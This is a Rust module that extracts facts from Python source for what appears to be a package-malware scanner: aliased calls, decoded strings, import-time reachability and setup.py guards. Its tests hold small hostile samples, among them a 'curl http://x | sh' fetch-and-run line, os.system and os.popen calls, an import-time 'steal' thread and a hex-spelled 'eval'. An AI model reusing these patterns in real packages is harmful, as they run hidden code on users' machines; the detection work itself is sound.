//! Facts about Python source, from a real parser (tree-sitter-python):
//! calls (with import aliases resolved), attribute uses, string literals and
//! imports, each with its line and whether it runs when the module is
//! imported (module or class body) or only when a function is called.
//!
//! The walk is iterative, so deeply nested expressions cannot overflow the
//! stack; source that does not parse (Python 2, truncated files) still gives
//! the facts of the parts that do, and says it had errors.

use std::collections::HashMap;

use serde::Serialize;
use tree_sitter::{Node, Parser};

/// When code at a place runs, relative to `import` of its file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Scope {
    /// Module or class body: runs when the file is imported or executed.
    TopLevel,
    /// Inside a function or lambda: runs only when called.
    Function,
}

/// A call site.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Call {
    /// The callee with import aliases resolved (`subprocess.run`, `exec`,
    /// `os.system` for `from os import system; system(...)`).
    pub callee: String,
    /// 1-based line.
    pub line: usize,
    /// When it runs.
    pub scope: Scope,
    /// The innermost enclosing function, if any.
    pub func: Option<String>,
    /// The argument list's text, at most 300 bytes.
    pub args: String,
    /// Byte range of the argument list in the source (nested calls fall inside).
    #[serde(skip)]
    pub span: (usize, usize),
    /// The first argument's value when it is a plain string literal.
    #[serde(skip)]
    pub literal: Option<Str>,
}

/// A string literal's content (without quotes and prefixes).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Str {
    /// The literal's text between the quotes.
    pub value: String,
    /// 1-based line.
    pub line: usize,
    /// When it runs.
    pub scope: Scope,
    /// The innermost enclosing function, if any.
    pub func: Option<String>,
    /// A bytes literal (`b'...'`): `value` holds one char per byte (Latin-1).
    pub bytes: bool,
    /// A string on its own as a statement: a docstring or a comment-like
    /// block, never used as data.
    pub bare: bool,
    /// Letters and digits written as escapes (`\x65`, `\145`): plain text
    /// spelled so that a reader or a grep does not see it.
    pub spelled: usize,
}

impl Str {
    /// The literal's bytes: Latin-1 for bytes literals, UTF-8 otherwise.
    pub fn data(&self) -> std::borrow::Cow<'_, [u8]> {
        if self.bytes && !self.value.is_ascii() {
            #[expect(
                clippy::cast_possible_truncation,
                reason = "Latin-1 chars are below 256"
            )]
            let b = self.value.chars().map(|c| c as u32 as u8).collect();
            std::borrow::Cow::Owned(b)
        } else {
            std::borrow::Cow::Borrowed(self.value.as_bytes())
        }
    }
}

/// A dotted attribute use such as `os.environ` or `sys.executable`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Attr {
    /// The dotted name, aliases resolved.
    pub name: String,
    /// 1-based line.
    pub line: usize,
    /// When it runs.
    pub scope: Scope,
    /// The innermost enclosing function, if any.
    pub func: Option<String>,
}

/// Everything extracted from one source file.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Facts {
    /// Call sites.
    pub calls: Vec<Call>,
    /// String literals.
    pub strings: Vec<Str>,
    /// Dotted attribute uses.
    pub attrs: Vec<Attr>,
    /// Imported modules (`import a.b`, `from a import b` gives `a`).
    pub imports: Vec<(String, usize, Scope)>,
    /// Names of functions defined in the file.
    pub defs: Vec<String>,
    /// Uses of a defined function's name (a call, or passed as a thread
    /// target), with the function the use is in (`None`: top level).
    pub refs: Vec<(String, Option<String>)>,
    /// Uses of an imported name that call it or hand it to a caller
    /// (`Thread(target=run)` after `from .payload import run`), resolved
    /// (`.payload.run`), with the function the use is in.
    pub imported_refs: Vec<(String, Option<String>)>,
    /// Classes: name and the text of their base list.
    pub classes: Vec<(String, String)>,
    /// Functions defined inside a class body: (function, class).
    pub methods: Vec<(String, String)>,
    /// Whether parts of the file did not parse.
    pub has_errors: bool,
}

impl Facts {
    /// Functions that run when the file is imported: used at top level, or
    /// from a function that runs then (transitively).
    pub fn reachable_at_import(&self) -> std::collections::HashSet<String> {
        let mut reach: std::collections::HashSet<String> = self
            .refs
            .iter()
            .filter(|(_, f)| f.is_none())
            .map(|(n, _)| n.clone())
            .collect();
        loop {
            let before = reach.len();
            for (name, from) in &self.refs {
                if from.as_ref().is_some_and(|f| reach.contains(f)) {
                    reach.insert(name.clone());
                }
            }
            if reach.len() == before {
                return reach;
            }
        }
    }

    /// Whether code in `func` (with `scope`) runs when the file is imported.
    #[expect(
        clippy::unused_self,
        reason = "read as a question about these facts at every call site"
    )]
    pub fn runs_at_import(
        &self,
        scope: Scope,
        func: Option<&str>,
        reach: &std::collections::HashSet<String>,
    ) -> bool {
        scope == Scope::TopLevel || func.is_some_and(|f| reach.contains(f))
    }
}

/// Parses `source` and extracts its facts.
pub fn facts(source: &[u8]) -> Facts {
    let mut parser = Parser::new();
    if parser
        .set_language(&tree_sitter_python::LANGUAGE.into())
        .is_err()
    {
        return Facts {
            has_errors: true,
            ..Facts::default()
        };
    }
    let Some(tree) = parser.parse(source, None) else {
        return Facts {
            has_errors: true,
            ..Facts::default()
        };
    };
    let root = tree.root_node();
    let mut walk = Walk::new(source);
    walk.run(root);
    walk.finish(root.has_error())
}

/// Where a node is: its scope and the index of its innermost function.
#[derive(Clone, Copy)]
struct Place {
    scope: Scope,
    func: Option<usize>,
    /// Index of the innermost class in `Facts::classes`.
    class: Option<usize>,
}

/// One pre-order pass over the tree with a cursor (no per-node allocation);
/// callees are resolved after it, once every import alias is known.
struct Walk<'s, 't> {
    source: &'s [u8],
    aliases: HashMap<String, String>,
    funcs: Vec<&'s str>,
    def_name_nodes: std::collections::HashSet<usize>,
    calls: Vec<(Node<'t>, Place)>,
    attrs: Vec<(Node<'t>, Place)>,
    idents: Vec<(&'s str, Option<usize>)>,
    invoked: bool,
    bare: bool,
    /// The current node's field in its parent (asked of tree-sitter only
    /// for the block after a maintainer's `if`: see [`Walk::run`]), and the
    /// parent's kind.
    field: Option<&'t str>,
    parent: &'t str,
    recent: Recent,
    /// Top-level names bound once, to one argument (`command = sys.argv[-1]`).
    argv_names: Vec<String>,
    out: Facts,
}

/// What the walk saw last that decides how the node right after it runs.
#[derive(Default)]
struct Recent {
    /// Whether the last top-level `if`/`elif` tests for a maintainer's
    /// command (its consequence block comes right after its condition).
    maintainer_if: bool,
    /// Whether the last keyword argument is `target=` (its value follows).
    target_keyword: bool,
}

impl<'s, 't> Walk<'s, 't> {
    fn new(source: &'s [u8]) -> Self {
        Walk {
            source,
            aliases: HashMap::new(),
            funcs: Vec::new(),
            def_name_nodes: std::collections::HashSet::new(),
            calls: Vec::new(),
            attrs: Vec::new(),
            idents: Vec::new(),
            invoked: false,
            bare: false,
            field: None,
            parent: "",
            recent: Recent::default(),
            argv_names: argv_names(&String::from_utf8_lossy(source)),
            out: Facts::default(),
        }
    }

    fn run(&mut self, root: Node<'t>) {
        let mut cursor = root.walk();
        // Context frames: (depth of the node that opened it, place inside it).
        let mut frames: Vec<(usize, Place)> = Vec::new();
        // Kinds of the nodes on the path from the root (parent lookups).
        let mut kinds: Vec<&str> = Vec::new();
        let mut depth = 0usize;
        loop {
            let node = cursor.node();
            kinds.truncate(depth);
            kinds.push(node.kind());
            // A name used without being called or handed to a caller (an
            // alias, a comparison) is not evidence that its function runs.
            self.invoked = node.kind() == "identifier" && invokes(&kinds, cursor.field_name());
            self.parent = kinds.len().checked_sub(2).map_or("", |i| kinds[i]);
            // Asking for a field name walks the tree: only the block after a
            // maintainer's `if` needs it.
            self.field = if self.recent.maintainer_if && node.kind() == "block" {
                cursor.field_name()
            } else {
                None
            };
            self.bare = node.kind() == "string" && self.parent == "expression_statement";
            let place = frames.last().map_or(
                Place {
                    scope: Scope::TopLevel,
                    func: None,
                    class: None,
                },
                |f| f.1,
            );
            if let Some(inner) = self.visit(node, place) {
                frames.push((depth, inner));
            }
            if cursor.goto_first_child() {
                depth += 1;
                continue;
            }
            loop {
                while frames.last().is_some_and(|f| f.0 == depth) {
                    frames.pop();
                }
                if cursor.goto_next_sibling() {
                    break;
                }
                if !cursor.goto_parent() {
                    return;
                }
                depth -= 1;
            }
        }
    }

    /// Records what `node` says; returns the place its children are in when
    /// it opens a function or lambda.
    /// `run = exec`, `fetch = requests.get`: later calls of the name call
    /// what it names (a builtin of dynamic code, or a dotted attribute).
    fn alias_by_assignment(&mut self, node: Node<'t>, source: &[u8]) {
        let (Some(l), Some(r)) = (
            node.child_by_field_name("left"),
            node.child_by_field_name("right"),
        ) else {
            return;
        };
        if l.kind() != "identifier" {
            return;
        }
        let target = match r.kind() {
            "identifier"
                if matches!(text(r, source), "exec" | "eval" | "compile" | "__import__") =>
            {
                text(r, source).to_owned()
            }
            "attribute" => dotted(r, source, &self.aliases),
            _ => return,
        };
        self.aliases.insert(text(l, source).to_owned(), target);
    }

    /// Top-level blocks that do not run when the module is imported: a
    /// script's `if __name__ == "__main__":`, and a setup.py's block for a
    /// maintainer's command (`if sys.argv[-1] == "publish":`), which pip
    /// never passes. Each becomes a pseudo-function.
    fn guarded_block(&mut self, node: Node<'t>, place: Place) -> Option<Place> {
        if place.scope != Scope::TopLevel {
            return None;
        }
        let source = self.source;
        let name = match node.kind() {
            "if_statement" if is_main_guard(node, source) => SCRIPT,
            "if_statement" | "elif_clause" => {
                self.recent.maintainer_if = node
                    .child_by_field_name("condition")
                    .is_some_and(|c| is_maintainer_command(text(c, source), &self.argv_names));
                return None;
            }
            "block"
                if self.recent.maintainer_if
                    && self.field == Some("consequence")
                    && matches!(self.parent, "if_statement" | "elif_clause") =>
            {
                MAINTAINER
            }
            _ => return None,
        };
        self.funcs.push(name);
        Some(Place {
            scope: Scope::Function,
            func: Some(self.funcs.len() - 1),
            class: place.class,
        })
    }

    fn visit(&mut self, node: Node<'t>, place: Place) -> Option<Place> {
        if let Some(inner) = self.guarded_block(node, place) {
            return Some(inner);
        }
        let source = self.source;
        let line = node.start_position().row + 1;
        match node.kind() {
            "function_definition" => {
                let name = node.child_by_field_name("name");
                let idx = name.map(|n| {
                    self.def_name_nodes.insert(n.id());
                    self.funcs.push(text(n, source));
                    self.funcs.len() - 1
                });
                if let Some(n) = name {
                    self.out.defs.push(text(n, source).to_owned());
                    if let Some(c) = place.class.and_then(|c| self.out.classes.get(c)) {
                        let class = c.0.clone();
                        self.out.methods.push((text(n, source).to_owned(), class));
                    }
                }
                return Some(Place {
                    scope: Scope::Function,
                    func: idx,
                    class: place.class,
                });
            }
            "class_definition" => {
                let name = node
                    .child_by_field_name("name")
                    .map(|n| text(n, source).to_owned())
                    .unwrap_or_default();
                let bases = node
                    .child_by_field_name("superclasses")
                    .map(|n| text(n, source).to_owned())
                    .unwrap_or_default();
                self.out.classes.push((name, bases));
                return Some(Place {
                    class: Some(self.out.classes.len() - 1),
                    ..place
                });
            }
            // `Thread(target=lambda: ...)`: the thread runs it where it is
            // started, so it keeps the place it is written in.
            "keyword_argument" => {
                self.recent.target_keyword = node
                    .child_by_field_name("name")
                    .is_some_and(|n| text(n, source) == "target");
            }
            "lambda" if !(self.recent.target_keyword && self.parent == "keyword_argument") => {
                return Some(Place {
                    scope: Scope::Function,
                    ..place
                });
            }
            "import_statement" => {
                let mut c = node.walk();
                for name in node.children_by_field_name("name", &mut c) {
                    let (module, alias) = aliased(name, source);
                    self.out.imports.push((module.clone(), line, place.scope));
                    if let Some(a) = alias {
                        self.aliases.insert(a, module);
                    }
                }
            }
            "import_from_statement" => {
                let module = node
                    .child_by_field_name("module_name")
                    .map(|m| text(m, source).to_owned())
                    .unwrap_or_default();
                self.out.imports.push((module.clone(), line, place.scope));
                let mut c = node.walk();
                for name in node.children_by_field_name("name", &mut c) {
                    let (item, alias) = aliased(name, source);
                    self.aliases.insert(
                        alias.unwrap_or_else(|| item.clone()),
                        format!("{module}.{item}"),
                    );
                }
            }
            "assignment" => self.alias_by_assignment(node, source),
            "call" => self.calls.push((node, place)),
            "attribute" => self.attrs.push((node, place)),
            // A def's own name is not a use of it.
            "identifier" if self.invoked && !self.def_name_nodes.contains(&node.id()) => {
                self.idents.push((text(node, source), place.func));
            }
            "string" => {
                let mut lit = self.string(node, place);
                lit.bare = self.bare;
                self.out.strings.push(lit);
            }
            _ => {}
        }
        None
    }

    /// A string literal's value, escapes decoded unless raw.
    fn string(&self, node: Node<'_>, place: Place) -> Str {
        let source = self.source;
        let mut value = String::new();
        let mut prefix = "";
        let mut spelled = 0;
        let mut c = node.walk();
        for part in node.children(&mut c) {
            match part.kind() {
                "string_start" => prefix = text(part, source),
                "string_content" => {
                    let raw = text(part, source);
                    if prefix.contains(['r', 'R']) || !raw.contains('\\') {
                        value.push_str(raw);
                    } else {
                        spelled += unescape(raw, &mut value);
                    }
                }
                _ => {}
            }
        }
        Str {
            value,
            line: node.start_position().row + 1,
            scope: place.scope,
            func: self.func_name(place.func),
            bytes: prefix.contains(['b', 'B']),
            bare: false,
            spelled,
        }
    }

    fn func_name(&self, idx: Option<usize>) -> Option<String> {
        idx.and_then(|i| self.funcs.get(i)).map(|s| (*s).to_owned())
    }

    fn finish(mut self, has_errors: bool) -> Facts {
        let source = self.source;
        for (node, place) in std::mem::take(&mut self.calls) {
            let Some(f) = node.child_by_field_name("function") else {
                continue;
            };
            let arguments = node.child_by_field_name("arguments");
            let args = arguments
                .map(|a| text(a, source).chars().take(300).collect())
                .unwrap_or_default();
            let span = arguments.map_or((0, 0), |a| (a.start_byte(), a.end_byte()));
            let literal = arguments
                .and_then(|a| a.named_child(0))
                .filter(|a| a.kind() == "string")
                .map(|a| self.string(a, place));
            self.out.calls.push(Call {
                callee: dotted(f, source, &self.aliases),
                line: node.start_position().row + 1,
                scope: place.scope,
                func: self.func_name(place.func),
                args,
                span,
                literal,
            });
        }
        for (node, place) in std::mem::take(&mut self.attrs) {
            let name = dotted(node, source, &self.aliases);
            if !name.contains('(') {
                self.out.attrs.push(Attr {
                    name,
                    line: node.start_position().row + 1,
                    scope: place.scope,
                    func: self.func_name(place.func),
                });
            }
        }
        let defs: std::collections::HashSet<&str> = self.funcs.iter().copied().collect();
        for (id, func) in std::mem::take(&mut self.idents) {
            if defs.contains(id) {
                let from = self.func_name(func);
                self.out.refs.push((id.to_owned(), from));
            } else if let Some(target) = self.aliases.get(id) {
                let from = self.func_name(func);
                self.out.imported_refs.push((target.clone(), from));
            }
        }
        self.out.has_errors = has_errors;
        self.out
    }
}

/// Whether an identifier at the end of `kinds` is called or handed to a
/// caller: `f()`, `g(f)`, `Thread(target=f)`, `@f`, `obj.f()`.
fn invokes(kinds: &[&str], field: Option<&str>) -> bool {
    let parent = kinds.len().checked_sub(2).map(|i| kinds[i]);
    let grandparent = kinds.len().checked_sub(3).map(|i| kinds[i]);
    match (parent, field) {
        (Some("call"), Some("function"))
        | (Some("keyword_argument"), Some("value"))
        | (Some("argument_list" | "decorator"), _) => true,
        (Some("attribute"), Some("attribute")) => matches!(
            grandparent,
            Some("call" | "argument_list" | "keyword_argument" | "decorator")
        ),
        _ => false,
    }
}

/// The pseudo-function of a script's `if __name__ == "__main__":` block.
pub const SCRIPT: &str = "<script>";

/// The pseudo-function of a block that runs only for a maintainer's
/// `setup.py` command (`publish`, `upload`, ...).
pub const MAINTAINER: &str = "<maintainer-command>";

/// Commands maintainers give their own `setup.py`; pip gives none of them.
const MAINTAINER_COMMANDS: &[&str] = &[
    "publish", "upload", "release", "tag", "coverage", "docs", "clean", "deploy", "bump",
];

/// Whether a condition holds only for a maintainer's command, so no
/// command pip runs (`egg_info`, `bdist_wheel`, `install`, ...) reaches
/// the block: `sys.argv[-1] == "publish"`, `"upload" in sys.argv`,
/// `sys.argv[1] in ("publish", "release")`, or one such test joined by
/// `and`. Quoting a maintainer word is not enough: `sys.argv[1] in
/// ("install", "publish")` or `"upload" in sys.argv[:1] + ["upload"]`
/// reach the block during an install.
fn is_maintainer_command(condition: &str, argv_names: &[String]) -> bool {
    let is_argv_item = |t: &str| is_argv_item(t) || argv_names.iter().any(|n| n == t.trim());
    condition.split(" and ").any(|part| {
        maintainer_test(
            &part.split_whitespace().collect::<Vec<_>>().join(" "),
            &is_argv_item,
        )
    })
}

/// Names a module binds once at top level, to one argument of the
/// command line: `command = sys.argv[-1]`. A name bound again anywhere
/// (`command = "publish"`) is not one.
fn argv_names(source: &str) -> Vec<String> {
    let bound = |line: &str| -> Option<(String, String)> {
        let (lhs, rhs) = line.split_once('=')?;
        let lhs = lhs
            .trim()
            .trim_end_matches(['+', '-', '*', '/', ':', '|', '&']);
        let name = lhs.trim();
        (!name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
            .then(|| (name.to_owned(), rhs.trim().to_owned()))
    };
    let mut counts: HashMap<String, (usize, bool)> = HashMap::new();
    for line in source.lines() {
        if line.trim_start().starts_with('#') || line.contains("==") {
            continue;
        }
        if let Some((name, rhs)) = bound(line) {
            let e = counts.entry(name).or_default();
            e.0 += 1;
            e.1 = is_argv_item(&rhs);
        }
    }
    counts
        .into_iter()
        .filter(|(_, (n, argv))| *n == 1 && *argv)
        .map(|(name, _)| name)
        .collect()
}

/// One comparison that only a maintainer's command makes true.
fn maintainer_test(t: &str, is_argv_item: &dyn Fn(&str) -> bool) -> bool {
    let t = t.trim();
    let t = t
        .strip_prefix('(')
        .and_then(|r| r.strip_suffix(')'))
        .map_or(t, str::trim);
    if let Some((a, b)) = t.split_once(" == ") {
        return (is_argv_item(a) && is_maintainer_word(b))
            || (is_maintainer_word(a) && is_argv_item(b));
    }
    if let Some((a, b)) = t.split_once(" in ") {
        if is_maintainer_word(a) {
            return is_argv_whole(b);
        }
        if is_argv_item(a) {
            let inner = b
                .strip_prefix('(')
                .and_then(|r| r.strip_suffix(')'))
                .or_else(|| b.strip_prefix('[').and_then(|r| r.strip_suffix(']')))
                .or_else(|| b.strip_prefix('{').and_then(|r| r.strip_suffix('}')));
            return inner.is_some_and(|items| {
                let words: Vec<&str> = items
                    .split(',')
                    .map(str::trim)
                    .filter(|w| !w.is_empty())
                    .collect();
                !words.is_empty() && words.iter().all(|w| is_maintainer_word(w))
            });
        }
    }
    false
}

/// A quoted maintainer command: `"publish"`.
fn is_maintainer_word(t: &str) -> bool {
    let t = t.trim();
    let inner = t
        .strip_prefix('"')
        .and_then(|r| r.strip_suffix('"'))
        .or_else(|| t.strip_prefix('\'').and_then(|r| r.strip_suffix('\'')));
    inner.is_some_and(|w| MAINTAINER_COMMANDS.contains(&w))
}

/// `sys.argv[1]`, `sys.argv[-1]`: one argument.
fn is_argv_item(t: &str) -> bool {
    t.trim()
        .strip_prefix("sys.argv[")
        .and_then(|r| r.strip_suffix(']'))
        .is_some_and(|i| {
            let i = i.strip_prefix('-').unwrap_or(i);
            !i.is_empty() && i.bytes().all(|b| b.is_ascii_digit())
        })
}

/// `sys.argv` or a plain slice of it (`sys.argv[1:]`): nothing added.
fn is_argv_whole(t: &str) -> bool {
    let t = t.trim();
    t == "sys.argv"
        || t.strip_prefix("sys.argv[")
            .and_then(|r| r.strip_suffix(']'))
            .is_some_and(|s| {
                s.contains(':')
                    && s.bytes()
                        .all(|b| b.is_ascii_digit() || b == b':' || b == b'-')
            })
}

/// Whether an `if` tests `__name__ == "__main__"`.
fn is_main_guard(node: Node<'_>, source: &[u8]) -> bool {
    node.child_by_field_name("condition").is_some_and(|c| {
        let t = text(c, source);
        t.contains("__name__") && t.contains("__main__") && t.contains("==")
    })
}

/// Appends `raw` with Python escape sequences decoded (`\x41`, `\101`,
/// `\u0041`, `\n`, ...). Unknown escapes stay as written. Returns how many
/// escapes stood for a plain letter or digit.
fn unescape(raw: &str, out: &mut String) -> usize {
    let mut spelled = 0;
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        let Some(e) = chars.next() else {
            out.push('\\');
            break;
        };
        let before = out.len();
        let hex = |n: usize, chars: &mut std::iter::Peekable<std::str::Chars<'_>>| {
            let digits: String = (0..n)
                .filter_map(|_| chars.next_if(char::is_ascii_hexdigit))
                .collect();
            u32::from_str_radix(&digits, 16)
                .ok()
                .and_then(char::from_u32)
        };
        match e {
            'n' => out.push('\n'),
            't' => out.push('\t'),
            'r' => out.push('\r'),
            '0'..='7' => {
                let mut v = e.to_digit(8).unwrap_or(0);
                for _ in 0..2 {
                    match chars.peek().and_then(|d| d.to_digit(8)) {
                        Some(d) => {
                            v = v * 8 + d;
                            chars.next();
                        }
                        None => break,
                    }
                }
                out.extend(char::from_u32(v));
            }
            'x' => out.extend(hex(2, &mut chars)),
            'u' => out.extend(hex(4, &mut chars)),
            'U' => out.extend(hex(8, &mut chars)),
            '\n' => {}
            '\\' | '\'' | '"' => out.push(e),
            'a' => out.push('\u{7}'),
            'b' => out.push('\u{8}'),
            'f' => out.push('\u{c}'),
            'v' => out.push('\u{b}'),
            _ => {
                out.push('\\');
                out.push(e);
            }
        }
        if matches!(e, '0'..='7' | 'x' | 'u' | 'U')
            && out[before..].chars().all(|c| c.is_ascii_alphanumeric())
            && out.len() > before
        {
            spelled += 1;
        }
    }
    spelled
}

fn text<'a>(node: Node<'_>, source: &'a [u8]) -> &'a str {
    node.utf8_text(source).unwrap_or("")
}

/// `a.b` or `a.b as c` in an import: (`a.b`, Some(`c`)).
fn aliased(node: Node<'_>, source: &[u8]) -> (String, Option<String>) {
    if node.kind() == "aliased_import" {
        let name = node
            .child_by_field_name("name")
            .map(|n| text(n, source).to_owned())
            .unwrap_or_default();
        let alias = node
            .child_by_field_name("alias")
            .map(|n| text(n, source).to_owned());
        (name, alias)
    } else {
        (text(node, source).to_owned(), None)
    }
}

/// A callee or attribute as a dotted name, aliases resolved;
/// `__import__("os").system` reads as `os.system`.
fn dotted(node: Node<'_>, source: &[u8], aliases: &HashMap<String, String>) -> String {
    let mut parts = Vec::new();
    let mut cur = node;
    loop {
        match cur.kind() {
            "attribute" => {
                if let Some(a) = cur.child_by_field_name("attribute") {
                    parts.push(text(a, source).to_owned());
                }
                match cur.child_by_field_name("object") {
                    Some(o) => cur = o,
                    None => break,
                }
            }
            "identifier" => {
                let id = text(cur, source);
                parts.push(aliases.get(id).cloned().unwrap_or_else(|| id.to_owned()));
                break;
            }
            "call" => {
                // __import__('x') / importlib.import_module('x') as the module x.
                let f = cur
                    .child_by_field_name("function")
                    .map_or("", |f| text(f, source));
                let arg = cur
                    .child_by_field_name("arguments")
                    .and_then(|a| a.named_child(0))
                    .filter(|a| a.kind() == "string")
                    .map(|a| text(a, source).trim_matches(['\'', '"']).to_owned());
                match (f, arg) {
                    ("__import__" | "importlib.import_module", Some(m)) => parts.push(m),
                    _ => parts.push(format!("{}(...)", f.chars().take(40).collect::<String>())),
                }
                break;
            }
            _ => {
                parts.push(format!("<{}>", cur.kind()));
                break;
            }
        }
    }
    parts.reverse();
    parts.join(".")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn calls_with_aliases_and_scopes() {
        let src = b"import subprocess as sp\nfrom os import system\nimport base64, sys\n\nsp.run([sys.executable, 'p.py'])\n\ndef later():\n    system('id')\n\nclass C:\n    x = __import__('os').popen('ls')\n";
        let f = facts(src);
        let calls: Vec<_> = f
            .calls
            .iter()
            .map(|c| (c.callee.as_str(), c.line, c.scope))
            .collect();
        assert!(
            calls.contains(&("subprocess.run", 5, Scope::TopLevel)),
            "{calls:?}"
        );
        assert!(
            calls.contains(&("os.system", 8, Scope::Function)),
            "{calls:?}"
        );
        assert!(
            calls.contains(&("os.popen", 11, Scope::TopLevel)),
            "class bodies run at import: {calls:?}"
        );
        assert!(
            f.attrs
                .iter()
                .any(|a| a.name == "sys.executable" && a.line == 5)
        );
        assert!(f.strings.iter().any(|s| s.value == "p.py"));
        assert!(!f.has_errors);
    }

    #[test]
    fn functions_reached_from_top_level_run_at_import() {
        let src = b"import threading\ndef _loop():\n    steal()\ndef steal():\n    pass\ndef _start():\n    threading.Thread(target=_loop).start()\ndef unused():\n    steal()\n_start()\n";
        let f = facts(src);
        let reach = f.reachable_at_import();
        for name in ["_start", "_loop", "steal"] {
            assert!(reach.contains(name), "{name}: {reach:?}");
        }
        assert!(!reach.contains("unused"));
        let call = f
            .calls
            .iter()
            .find(|c| c.callee == "threading.Thread")
            .unwrap();
        assert_eq!(call.func.as_deref(), Some("_start"));
        assert_eq!(call.args, "(target=_loop)");
    }

    #[test]
    fn python2_and_garbage_do_not_crash() {
        // tree-sitter-python reads Python 2 print and exec statements.
        let f = facts(b"print 'hello'\nexec \"import os\"\n");
        assert!(
            f.strings
                .iter()
                .any(|s| s.value == "import os" && s.line == 2),
            "{f:?}"
        );
        let f = facts(&[0xff, 0xfe, 0x00, b'(', b'(']);
        assert!(f.has_errors);
    }

    #[test]
    fn only_invoked_names_reach_and_main_blocks_are_scripts() {
        let src = b"def aliased():\n    pass\ndef called():\n    pass\ndef main():\n    pass\nx = aliased\ncalled()\nif __name__ == '__main__':\n    main()\n";
        let f = facts(src);
        let reach = f.reachable_at_import();
        assert!(reach.contains("called"), "{reach:?}");
        assert!(
            !reach.contains("aliased"),
            "an alias is not a call: {reach:?}"
        );
        assert!(
            !reach.contains("main"),
            "a __main__ block runs as a script: {reach:?}"
        );
    }

    #[test]
    fn escapes_are_decoded_and_docstrings_marked() {
        let src = b"\"\"\"Module doc: curl http://x | sh\"\"\"\nname = \"\\x65\\x76\\x61\\x6c\"\nraw = r\"\\x41\"\nblob = b\"\\x78\\x9c\"\n";
        let f = facts(src);
        let doc = &f.strings[0];
        assert!(doc.bare && doc.value.starts_with("Module doc"));
        let name = &f.strings[1];
        assert_eq!(name.value, "eval");
        assert_eq!(name.spelled, 4);
        assert!(!name.bare);
        assert_eq!(
            f.strings[2].value, "\\x41",
            "raw strings keep their backslashes"
        );
        assert_eq!(
            &*f.strings[3].data(),
            b"\x78\x9c",
            "bytes literals give bytes"
        );
    }

    #[test]
    fn install_command_classes_and_methods_are_known() {
        let src = b"from setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        pass\n";
        let f = facts(src);
        assert_eq!(f.classes, vec![("Post".to_owned(), "(install)".to_owned())]);
        assert_eq!(f.methods, vec![("run".to_owned(), "Post".to_owned())]);
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        let depth = 50_000;
        let mut src = String::from("x = ");
        src.push_str(&"(".repeat(depth));
        src.push('1');
        src.push_str(&")".repeat(depth));
        let f = facts(src.as_bytes());
        assert!(f.calls.is_empty());
    }
}
